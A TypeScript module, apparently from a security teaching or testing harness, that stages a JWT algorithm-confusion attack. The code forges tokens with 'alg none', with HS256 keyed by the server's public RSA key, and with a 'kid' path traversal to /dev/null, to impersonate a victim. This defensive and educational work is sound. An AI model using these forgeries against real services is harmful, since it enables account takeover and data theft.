import { createHmac, createPublicKey, type JsonWebKey } from 'node:crypto'
import { answerMembers } from '../../../flows/answers/answer-members.js'
import { get } from '../../../flows/walk.js'
import type { Exchange } from '../../../protocol/http/exchange.js'
import { decodeJwt } from '../../../protocol/tokens/decode.js'
import { isJsonObject, type JsonObject } from '../../../protocol/values.js'
import { attack, type Refusal } from '../model.js'
import { logInByCode, needMember, PUBLIC_CLIENT, recordsRequest } from '../moves.js'

const encode = (value: unknown): string => Buffer.from(JSON.stringify(value)).toString('base64url')

/** The first published RSA key, as PEM: the text that a careless verifier takes for a secret. */
function publishedPem(keys: Exchange): string | undefined {
  const { keys: all } = answerMembers(keys)
  const key = Array.isArray(all) ? all.find(each => isJsonObject(each) && each.kty === 'RSA') : undefined
  if (key === undefined) return undefined
  const object = createPublicKey({ key: key as JsonWebKey, format: 'jwk' })
  return object.export({ type: 'spki', format: 'pem' }).toString()
}

function hmacToken(header: JsonObject, claims: JsonObject, secret: string): string {
  const input = `${encode({ ...header, alg: 'HS256' })}.${encode(claims)}`
  return `${input}.${createHmac('sha256', secret).update(input).digest('base64url')}`
}

/** The forgeries of a token, with other claims and no key of the issuer, and how each is made. */
function forgeries(header: JsonObject, claims: JsonObject, pem: string | undefined) {
  // Every machine has this file, and it is empty.
  const path = '../../../../../../dev/null'
  const signed = 'alg HS256, signed with the text of the published key'
  return [
    [`${encode({ ...header, alg: 'none' })}.${encode(claims)}.`, 'alg none, and no signature'],
    ...(pem === undefined ? [] : [[hmacToken(header, claims, pem), signed] as const]),
    [hmacToken({ ...header, kid: path }, claims, ''), `alg HS256, kid ${path}, signed with the empty text`],
  ] as const
}

/** A token with another subject, which a careless resource server takes for signed. */
export const algorithmConfusion = attack({
  name: 'algorithm-confusion',
  title: 'a token that the attacker signs, and the header says how to check it',
  rule: 'RFC 8725 §2.1',
  weak: ['alg-none', 'hs-rs', 'kid-path'],
  opened: {
    'alg-none': { stolen: true },
    'hs-rs': { stolen: true },
    'kid-path': { stolen: true },
  },
  starts: [
    'The attacker has an account and a token of their own: they know what a token looks like.',
    'The attacker knows alice’s name, and the published keys of the server.',
  ],
  steals: 'records of alice',
  defences: [{ check: 'signature', rule: 'RFC 7515 §5.2' }],
  wouldNotHelp: [
    'short lifetimes: the attacker writes exp too',
    'checks of iss, aud and exp: all of them hold in the forged token',
    'a longer key: no key of the server is used',
  ],
  noWindow: 'the victim does nothing in it',
  running: { needs: [PUBLIC_CLIENT] },
  story: {
    attacker_login: 'The attacker logs in with their own account, and gets an honest token.',
    keys_request: 'The attacker reads the public keys, as everybody may.',
    forgery: 'The attacker changes sub to alice, and chooses the algorithm in the header.',
    resource_request:
      'The attacker presents the forged token. The resource server must know beforehand which algorithms it accepts.',
  },
  lanes: {
    attacker_login: ['attacker', 'authorization_server', 'log in as the attacker', '6749 §4.1'],
    keys_request: ['attacker', 'authorization_server', 'GET /.well-known/jwks.json', '8414 §2'],
    forgery: ['attacker', 'attacker', 'write alice into the token', '8725 §2.1'],
  },
  async *run(scene) {
    const { attacker, victim, urls, step } = scene
    const names = ['attacker_login', 'attacker_login', 'attacker_login'] as const
    const token = needMember(yield* logInByCode(scene, attacker, 'records:read', names), 'access_token')
    const keys = await attacker.send(get(`${urls.authorization}/.well-known/jwks.json`))
    yield step('keys_request', { exchange: keys })

    const { header, claims } = decodeJwt(token)
    const promoted = { ...claims, sub: victim.account.username }
    let refusal: Refusal | undefined
    for (const [forged, note] of forgeries(header, promoted, publishedPem(keys))) {
      yield step('forgery', { note, repeats: true })
      const exchange = await attacker.send(recordsRequest(scene, forged))
      yield step('resource_request', { exchange, note, repeats: true })
      refusal = await scene.refusal(exchange)
      if (refusal === undefined) return undefined
    }
    return refusal
  },
})
